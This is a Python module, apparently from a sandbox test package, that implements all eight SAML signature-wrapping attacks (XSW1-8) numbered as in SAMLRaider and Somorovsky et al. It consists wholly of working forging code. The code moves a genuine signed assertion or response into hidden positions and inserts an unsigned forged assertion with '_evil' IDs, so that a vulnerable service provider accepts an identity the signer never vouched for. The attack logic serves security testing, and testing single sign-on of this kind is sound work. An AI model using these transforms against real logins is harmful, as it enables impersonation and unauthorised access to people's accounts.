"""Signature wrapping: the eight ways of SAMLRaider (XSW1-8) to hide what was signed and show something else.

Source: Somorovsky et al., On Breaking SAML: Be Whoever You Want to Be (2012), as SAMLRaider numbers them.
"""

from __future__ import annotations

from copy import deepcopy

from lxml import etree

from borgerblik.sandkasse.log_ind import ord as o


def pak(svar: etree._Element, ondt: etree._Element, nummer: int) -> etree._Element:
    """A Response that shows `ondt` (an assertion without signature) and hides the signed one, in that way.

    `svar` has a signed assertion; in ways 1 and 2 it is itself signed too.
    """
    if nummer <= 2:
        return _om_svaret(svar, ondt, nummer)
    aegte = _barn(svar, "saml:Assertion")
    if nummer in (3, 4, 7):
        _ved_siden_af(svar, aegte, ondt, nummer)
    else:
        _med_den_aegte_signatur(svar, aegte, ondt, nummer)
    return svar


def _om_svaret(svar: etree._Element, ondt: etree._Element, nummer: int) -> etree._Element:
    """The forged Response keeps the signature; the genuine one lies in it (1) or before it (2)."""
    aegte = deepcopy(svar)
    aegte.remove(_barn(aegte, "ds:Signature"))
    svar.replace(_barn(svar, "saml:Assertion"), ondt)
    svar.set("ID", "_evil_response_ID")
    signatur = _barn(svar, "ds:Signature")
    if nummer == 1:
        signatur.append(aegte)
    else:
        signatur.addprevious(aegte)
    return svar


def _ved_siden_af(svar: etree._Element, aegte: etree._Element, ondt: etree._Element, nummer: int) -> None:
    """The forged assertion has no signature: it stands before (3), around (4) or in Extensions before (7) the other."""
    if nummer == 7:
        ondt.set("ID", str(aegte.get("ID")))
        udvidelser = etree.Element(o.n("samlp:Extensions"))
        udvidelser.append(ondt)
        aegte.addprevious(udvidelser)
        return
    ondt.set("ID", "_evil_assertion_ID")
    aegte.addprevious(ondt)
    if nummer == 4:
        ondt.append(aegte)


def _med_den_aegte_signatur(svar: etree._Element, aegte: etree._Element, ondt: etree._Element, nummer: int) -> None:
    """The forged assertion has the signature; the genuine one lies last (5), in the signature (6) or its Object (8)."""
    ondt.set("ID", str(aegte.get("ID")) if nummer == 8 else "_evil_assertion_ID")
    signatur = _barn(aegte, "ds:Signature")
    ondt.insert(1, signatur)
    svar.replace(aegte, ondt)
    if nummer == 5:
        svar.append(aegte)
    elif nummer == 6:
        signatur.append(aegte)
    else:
        etree.SubElement(signatur, o.n("ds:Object")).append(aegte)


def _barn(element: etree._Element, navn: str) -> etree._Element:
    fundet = element.find(o.n(navn))
    if fundet is None:
        raise ValueError(f"nothing to wrap: no {navn}")
    return fundet
